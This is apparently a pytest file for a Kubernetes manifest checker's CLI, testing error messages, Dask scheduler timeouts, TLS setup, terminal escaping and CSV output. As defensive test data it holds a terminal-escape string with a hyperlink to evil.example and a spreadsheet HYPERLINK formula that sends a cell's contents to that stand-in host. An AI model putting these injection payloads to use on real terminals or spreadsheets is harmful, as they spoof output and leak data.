"""Errors that look like findings, or like nothing (issue 19): every error is one line naming the
path or input, exit 2 and no traceback; a fatal input error prints nothing that reads as clean;
a Dask address that is not a scheduler fails within a bound; chart text reaches the terminal
escaped; CSV cells that spreadsheets would run are neutralised.

Real parts only: the CLI in subprocesses, a read-only tmpfs mounted by the test (root ignores
file modes; skipped where mounting is not allowed), TCP servers and a TLS Dask scheduler on
127.0.0.1 started and stopped here, charts rendered by the Helm SDK.
"""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from helpers import EXAMPLE, ROOT, make_chart

from toolman_kit.analysis import Analysis
from toolman_kit.errors import FleetError
from toolman_kit.fleet import runner
from toolman_kit.present.formats import to_csv
from toolman_kit.read.manifests import load
from toolman_kit.text import terminal_safe

DEFAULT = str(EXAMPLE / "rendered" / "default.yaml")
ESC = "\x1b"
HOSTILE = "web\x1b[2J\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\\r\u202eOK"


def cli(*argv: str, cwd: Path | None = None, timeout: float = 120,
        env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """`toolman-kit ARGV` as a user runs it: its own process, stdout and stderr apart."""
    return subprocess.run([sys.executable, "-m", "toolman_kit", *argv], cwd=cwd or ROOT,
                          capture_output=True, text=True, timeout=timeout,
                          env={**os.environ, **(env or {})})


def one_error_line(done: subprocess.CompletedProcess[str], *words: str) -> str:
    """The run failed as an input error: exit 2, one `toolman-kit: error:` line with `words`."""
    assert done.returncode == 2, (done.returncode, done.stderr[-2000:])
    assert "Traceback" not in done.stderr
    lines = [x for x in done.stderr.splitlines() if x.startswith("toolman-kit: error: ")]
    assert len(lines) == 1, done.stderr
    for word in words:
        assert word in lines[0], lines[0]
    return lines[0]


def tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() if p.is_file() else b""
            for p in sorted(root.rglob("*"))}


@pytest.fixture
def read_only(tmp_path: Path) -> Iterator[Path]:
    """A read-only file system (tmpfs, mounted read-only): EROFS even for root."""
    where = tmp_path / "ro"
    where.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "ro,size=1m", "tmpfs", str(where)],
                             capture_output=True)
    if mounted.returncode:
        pytest.skip(f"cannot mount a read-only tmpfs here: {mounted.stderr.decode().strip()}")
    try:
        yield where
    finally:
        subprocess.run(["umount", str(where)], check=True)


# --- one line, exit 2, no traceback ------------------------------------------------------------

def test_check_output_on_a_read_only_file_system_is_one_line_and_exit_2(read_only):
    done = cli("check", DEFAULT, "-o", str(read_only / "out.txt"))
    one_error_line(done, f"{read_only / 'out.txt'}: cannot write the output: Read-only file "
                   "system")
    assert done.stdout == "" and not list(read_only.iterdir())


@pytest.mark.parametrize("fmt", ["table", "sarif"])
def test_check_output_errors_name_the_path(tmp_path, fmt):
    """-o naming a directory, or a file under a file: the path and what is wrong, never exit 1
    (which for check means findings); nothing around it changes."""
    (tmp_path / "notes.txt").write_text("mine\n")
    (tmp_path / "dir").mkdir()
    before = tree(tmp_path)
    one_error_line(cli("check", DEFAULT, "--format", fmt, "-o", str(tmp_path / "dir")),
                   f"{tmp_path / 'dir'}: cannot write the output: Is a directory")
    one_error_line(cli("check", DEFAULT, "--format", fmt, "-o",
                       str(tmp_path / "notes.txt" / "out")),
                   "cannot write the output: Not a directory", str(tmp_path / "notes.txt"))
    assert tree(tmp_path) == before


def test_compare_output_on_a_read_only_file_system_is_one_line(read_only, tmp_path):
    chart = make_chart(tmp_path / "chart", {"cm.yaml": """\
        apiVersion: v1
        kind: ConfigMap
        metadata: {name: c}
        """})
    one_error_line(cli("compare", "--chart", str(chart), "-o", str(read_only / "c.txt")),
                   f"{read_only / 'c.txt'}: cannot write the output: Read-only file system")


@pytest.mark.parametrize("address, words", [
    ("foo://x", ["foo://x: cannot reach a Dask scheduler", "unknown address scheme 'foo'"]),
    ("tcp://127.0.0.1", ["missing port number"]),
    ("tls://127.0.0.1:1", ["tls:// needs the client's certificates", "README"]),
])
def test_a_dask_address_that_cannot_be_used_is_one_line(tmp_path, address, words):
    fleet = tmp_path / "fleet.yaml"
    fleet.write_text(f"targets:\n  - name: d\n    paths: [{DEFAULT}]\n")
    done = cli("batch", str(fleet), "--out", str(tmp_path / "out"), "--dask-scheduler", address)
    one_error_line(done, *words)
    assert not (tmp_path / "out").exists()  # asked before anything is written


def test_stray_file_system_and_recursion_errors_are_one_line(capsys, tmp_path, monkeypatch):
    """What no command raises on purpose still ends as one line and exit 2: the last net in
    commands._main (a command whose input trips it is its own bug, named by the message)."""
    from toolman_kit import commands

    def raising(error: BaseException):
        def run(args):
            raise error
        return run

    parser = commands._parser()
    for error, words in ((PermissionError(13, "Permission denied", str(tmp_path / "x")),
                          f"{tmp_path / 'x'}: Permission denied"),
                         (RecursionError("maximum recursion depth exceeded"), "nested too deeply"),
                         (MemoryError(), "out of memory")):
        args = parser.parse_args(["checks"])
        args.run = raising(error)
        assert commands._main(args) == 2
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and err.startswith("toolman-kit: error: ") and words in err


# --- a fatal input error reads as one -----------------------------------------------------------

@pytest.mark.parametrize("fmt", ["table", "csv", "json", "sarif", "junit", "markdown"])
def test_a_typo_path_prints_nothing_that_reads_as_clean(tmp_path, fmt):
    done = cli("check", "typo.yaml", "--format", fmt, cwd=tmp_path)
    assert done.returncode == 2 and done.stderr == "typo.yaml: no such file or directory\n"
    out = done.stdout
    assert "0 errors" not in out and "No failures" not in out
    if fmt in ("table", "csv"):
        assert out == ""
    elif fmt == "json":
        doc = json.loads(out)
        assert doc["errors"] == [{"file": "typo.yaml", "line": None,
                                  "message": "no such file or directory"}]
    elif fmt == "sarif":
        (invocation,) = json.loads(out)["runs"][0]["invocations"]
        assert invocation["executionSuccessful"] is False
        assert invocation["toolExecutionNotifications"][0]["message"]["text"] == \
            "no such file or directory"
    elif fmt == "junit":
        assert 'tests="1" failures="0" errors="1"' in out
        assert '<testcase classname="input" name="typo.yaml"><error message="no such file or ' \
               'directory" type="input"/>' in out
    else:
        assert "Nothing was checked: the input could not be read." in out
        assert "- typo.yaml: no such file or directory" in out


def test_a_chart_that_cannot_render_prints_no_summary(tmp_path):
    chart = make_chart(tmp_path / "chart", {"x.yaml": '{{ fail "values are wrong" }}\n'})
    done = cli("check", "--chart", str(chart))
    assert done.returncode == 2 and done.stdout == ""
    assert "values are wrong" in done.stderr and done.stderr.count("\n") == 1


def test_some_inputs_read_the_summary_says_not_everything_was_checked(tmp_path):
    done = cli("check", DEFAULT, str(tmp_path / "typo.yaml"))
    assert done.returncode == 2
    last = done.stdout.splitlines()[-1]
    assert last.endswith("; 1 input error: not everything was checked"), last


# --- the Dask handshake is bounded --------------------------------------------------------------

@contextlib.contextmanager
def silent_server() -> Iterator[str]:
    """A TCP server on 127.0.0.1 that accepts connections and never says a word (what a port
    forward to nothing, or any non-Dask service waiting for its client to speak, looks like)."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    accepted, stop = [], threading.Event()

    def serve() -> None:
        while not stop.is_set():
            with contextlib.suppress(TimeoutError):
                accepted.append(server.accept()[0])

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield f"tcp://127.0.0.1:{server.getsockname()[1]}"
    finally:
        stop.set()
        thread.join(5)
        for conn in accepted:
            conn.close()
        server.close()


def test_a_server_that_is_not_a_dask_scheduler_fails_within_the_bound(tmp_path, monkeypatch):
    """Connected, and then silence: the handshake is bounded too (it used to wait for minutes
    after a connect the 15 s timeout covered). The bound is lowered here to keep the test short;
    the CLI's own 15 s is measured in the slow test below."""
    monkeypatch.setattr(runner, "DASK_TIMEOUT", 2)
    fleet = tmp_path / "fleet.yaml"
    fleet.write_text(f"targets:\n  - name: d\n    paths: [{DEFAULT}]\n")
    with silent_server() as address:
        started = time.monotonic()
        with pytest.raises(FleetError, match="no answer from a Dask scheduler within 2 s"):
            runner.run_batch(fleet, out=tmp_path / "out", dask_scheduler=address)
        assert time.monotonic() - started < 5
    assert not (tmp_path / "out").exists()


def test_the_scheduler_is_asked_from_inside_an_event_loop_too(monkeypatch):
    """A notebook runs run_batch inside Jupyter's event loop: the question still gets asked
    (and bounded), not refused with "cannot be called from a running event loop"."""
    monkeypatch.setattr(runner, "DASK_TIMEOUT", 1)

    async def in_a_notebook(address: str) -> None:
        runner._ask_scheduler(address)

    with silent_server() as address, pytest.raises(FleetError, match="within 1 s"):
        asyncio.run(in_a_notebook(address))


@pytest.mark.slow
def test_batch_against_a_silent_server_is_one_line_within_the_bound(tmp_path):
    fleet = tmp_path / "fleet.yaml"
    fleet.write_text(f"targets:\n  - name: d\n    paths: [{DEFAULT}]\n")
    with silent_server() as address:
        started = time.monotonic()
        done = cli("batch", str(fleet), "--out", str(tmp_path / "out"), "--dask-scheduler",
                   address, timeout=60)
        elapsed = time.monotonic() - started
    one_error_line(done, f"{address}: no answer from a Dask scheduler within 15 s")
    assert elapsed < runner.DASK_TIMEOUT + 10, elapsed  # 15 s and the start-up; it hung minutes


def _certificates(where: Path) -> dict[str, Path]:
    """A CA, and a certificate for 127.0.0.1 signed by it (the scheduler's and the client's)."""
    def openssl(*args: str) -> None:
        subprocess.run(["openssl", *args], cwd=where, check=True, capture_output=True)

    openssl("req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj",
            "/CN=test-ca", "-keyout", "ca-key.pem", "-out", "ca.pem")
    (where / "ext.cnf").write_text("subjectAltName=IP:127.0.0.1\n")
    openssl("req", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=127.0.0.1", "-keyout",
            "key.pem", "-out", "req.pem")
    openssl("x509", "-req", "-in", "req.pem", "-CA", "ca.pem", "-CAkey", "ca-key.pem",
            "-CAcreateserial", "-days", "1", "-extfile", "ext.cnf", "-out", "cert.pem")
    return {"ca": where / "ca.pem", "cert": where / "cert.pem", "key": where / "key.pem"}


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("openssl") is None, reason="needs the openssl command")
def test_tls_as_the_readme_shows_it(tmp_path):
    """A `dask scheduler` serving tls:// with certificates made here; the client configured as
    the README says (environment variables) passes the handshake and connects; without them
    the batch says what is missing."""
    tls = _certificates(tmp_path)
    port = socket.create_server(("127.0.0.1", 0))
    address = f"tls://127.0.0.1:{port.getsockname()[1]}"
    port.close()
    scheduler = subprocess.Popen(
        [Path(sys.executable).with_name("dask"), "scheduler", "--host", "127.0.0.1", "--port",
         address.rsplit(":", 1)[1], "--protocol", "tls", "--no-dashboard", "--tls-ca-file",
         str(tls["ca"]), "--tls-cert", str(tls["cert"]), "--tls-key", str(tls["key"])],
        cwd=tmp_path, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    env = {"DASK_DISTRIBUTED__COMM__TLS__CA_FILE": str(tls["ca"]),
           "DASK_DISTRIBUTED__COMM__TLS__CLIENT__CERT": str(tls["cert"]),
           "DASK_DISTRIBUTED__COMM__TLS__CLIENT__KEY": str(tls["key"]),
           "DASK_DISTRIBUTED__COMM__REQUIRE_ENCRYPTION": "True"}
    connect = ("import sys; from distributed import Client; "
               "from toolman_kit.fleet.runner import _ask_scheduler; "
               "_ask_scheduler(sys.argv[1]); Client(sys.argv[1], timeout='15s').close(); "
               "print('connected')")
    try:
        deadline = time.monotonic() + 60
        while True:  # the scheduler takes a few seconds to listen
            done = subprocess.run([sys.executable, "-c", connect, address], capture_output=True,
                                  text=True, timeout=90, env={**os.environ, **env})
            if done.returncode == 0 or time.monotonic() > deadline:
                break
            time.sleep(1)
        assert done.stdout.strip() == "connected", done.stderr[-2000:]
        fleet = tmp_path / "fleet.yaml"
        fleet.write_text(f"targets:\n  - name: d\n    paths: [{DEFAULT}]\n")
        one_error_line(cli("batch", str(fleet), "--out", str(tmp_path / "out"),
                           "--dask-scheduler", address),
                       "tls:// needs the client's certificates")
    finally:
        scheduler.terminate()
        scheduler.wait(30)


# --- chart text reaches the terminal escaped ---------------------------------------------------

def _hostile_deployment(name: str) -> str:
    return json.dumps({
        "apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": name},
        "spec": {"replicas": 1, "selector": {"matchLabels": {"app": "w"}}, "template": {
            "metadata": {"labels": {"app": "w"}},
            "spec": {"containers": [{"name": name, "image": "nginx:1.27.3"}]}}}})


def test_terminal_safe_escapes_what_a_terminal_would_obey():
    assert terminal_safe("plain ⚠️ é 名前") == "plain ⚠️ é 名前"
    assert terminal_safe(HOSTILE) == ("web\\x1b[2J\\x1b]8;;http://evil.example\\x1b\\click"
                                      "\\x1b]8;;\\x1b\\\\r\\u202eOK")
    assert terminal_safe("a\nb\tc\x00\x7f\x9b") == "a\\nb\\tc\\x00\\x7f\\x9b"


def test_check_table_and_stderr_show_control_characters_escaped(tmp_path):
    manifest = tmp_path / "m.json"
    manifest.write_text(_hostile_deployment(HOSTILE))
    done = cli("check", str(manifest))
    assert done.returncode == 1
    assert ESC not in done.stdout and "\r" not in done.stdout and "\u202e" not in done.stdout
    assert "Deployment/web\\x1b[2J\\x1b]8;;http://evil.example" in done.stdout
    chart = make_chart(tmp_path / "chart", {"x.yaml": '{{ fail "bad\\x1b[2J\\rvalue" }}\n'})
    done = cli("check", "--chart", str(chart), "--format", "markdown")
    assert ESC not in done.stderr and "\r" not in done.stderr and done.stderr.count("\n") == 1
    assert "bad\\x1b[2J" in done.stderr  # (Helm turns the CR into a space itself)


def test_compare_table_shows_control_characters_escaped(tmp_path):
    chart = make_chart(tmp_path / "chart", {"cm.yaml": """\
        apiVersion: v1
        kind: ConfigMap
        metadata: {name: {{ .Values.name | quote }}}
        """}, values="name: plain\n")
    (tmp_path / "bad.yaml").write_text(json.dumps({"name": HOSTILE, HOSTILE: 1}))
    done = cli("compare", "--chart", str(chart), "--value-set", f"bad={tmp_path / 'bad.yaml'}")
    assert done.returncode == 0, done.stderr[-2000:]
    assert ESC not in done.stdout and "\r" not in done.stdout and "\u202e" not in done.stdout
    assert "\\x1b[2J" in done.stdout


# --- CSV cells that spreadsheets would run -----------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_csv_cells_are_not_formulas(tmp_path):
    """`check --format csv` and the report's findings.csv (the same function): every cell a
    spreadsheet would run as a formula starts with a single quote; the rest are as they were."""
    manifest = tmp_path / "m.json"
    manifest.write_text(_hostile_deployment(FORMULA) + "\n---\n" + _hostile_deployment("-2+3")
                        .replace('"nginx:1.27.3"', '"@SUM(1+1)"'))
    done = cli("check", str(manifest), "--format", "csv")
    assert done.returncode == 1
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert {r["name"] for r in rows} == {"'" + FORMULA, "'-2+3"}
    assert {r["container"] for r in rows} >= {"'" + FORMULA, "'-2+3"}
    for row in rows:
        for column, cell in row.items():
            assert not cell[:1] or cell[0] not in "=+-@\t\r", (column, cell)
    report_csv = to_csv(Analysis.of(load(str(manifest)), errors="ignore"))
    assert report_csv == done.stdout
    assert "'=HYPERLINK(" in report_csv and ',=' not in report_csv
